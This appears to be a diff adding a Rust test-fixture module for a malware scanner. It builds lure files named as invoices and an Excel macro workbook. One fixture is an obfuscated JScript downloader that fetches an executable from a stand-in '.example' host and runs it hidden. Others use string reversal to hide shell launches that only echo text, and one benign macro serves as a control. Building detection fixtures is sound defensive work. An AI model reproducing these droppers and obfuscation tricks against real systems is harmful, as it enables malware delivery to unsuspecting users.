@@ -1,0 +1,36 @@
+//! Scripts of Windows by what they would do, and macros that hand such to other programs. Everything is inert: hosts end
+//! in `.example`, nothing exists that would be started.
+
+use super::Fixture;
+use super::ooxml::Package;
+use super::vba::{Module, vba_project};
+
+const DOWNLOADER: &[u8] = b"var parts = ['ject', 'XOb', 'tive', 'Ac'];\r\nvar Make = this[parts.reverse().join('')] || ActiveXObject;\r\n\
+function open(text) { return text.split('').reverse().join(''); }\r\nvar web = new ActiveXObject('MSXML2.' + open('PTTHLMX'));\r\n\
+web.open('GET', 'http://files.' + unescape('%65xample') + '/a.exe', false);\r\nweb.send();\r\n\
+var out = new ActiveXObject('ADODB.Stream');\r\nout.Type = 1; out.Open(); out.Write(web.responseBody);\r\n\
+out.SaveToFile('%TEMP%\\\\a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run(String.fromCharCode(37) + 'TEMP%\\\\a.exe', 0);\r\n";
+
+const HTA: &[u8] = b"<html><head><HTA:APPLICATION ID=\"a\"><script language=\"VBScript\">\r\nDim s\r\ns = StrReverse(\"c/ dmc\")\r\n\
+CreateObject(\"WScript.Shell\").Run s & \" echo unopened\", 0\r\n</script></head><body></body></html>";
+
+const WSF: &[u8] = b"<job><script language=\"JScript\"><![CDATA[\r\nvar shell = 'WScript';\r\n]]></script><script language=\"JScript\"><![CDATA[\r\n\
+new ActiveXObject(shell + '.Shell').Exec('cmd /c echo unopened');\r\n]]></script></job>";
+
+const CONTROL: &str = "Private Sub Workbook_Open()\n    Dim s\n    Set s = CreateObject(\"MSScriptControl.ScriptControl\")\n    s.Language = \"JScript\"\n\
+    s.AddCode \"function f(t) { return t.split('').reverse().join(''); }\"\n\
+    s.ExecuteStatement \"new ActiveXObject(f('llehS.tpircSW')).Run('cmd /c echo ' + f('deneponu'))\"\nEnd Sub";
+
+const HONEST: &str = "Private Sub Workbook_Open()\n    Dim s\n    Set s = CreateObject(\"MSScriptControl.ScriptControl\")\n    s.Language = \"JScript\"\n\
+    s.AddCode \"function keys(o) { var k = []; for (var i in o) { k.push(i); } return k; }\"\nEnd Sub";
+
+pub(crate) fn fixtures() -> Vec<Fixture> {
+    let book = |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
+    vec![
+        Fixture::new("script-downloader", "invoice.js", DOWNLOADER.to_vec()),
+        Fixture::new("script-hta", "invoice.hta", HTA.to_vec()),
+        Fixture::new("script-wsf", "invoice.wsf", WSF.to_vec()),
+        Fixture::new("vba-jscript", "prices.xlsm", book(CONTROL)),
+        Fixture::new("vba-jscript-honest", "prices.xlsm", book(HONEST)).honest(),
+    ]
+}
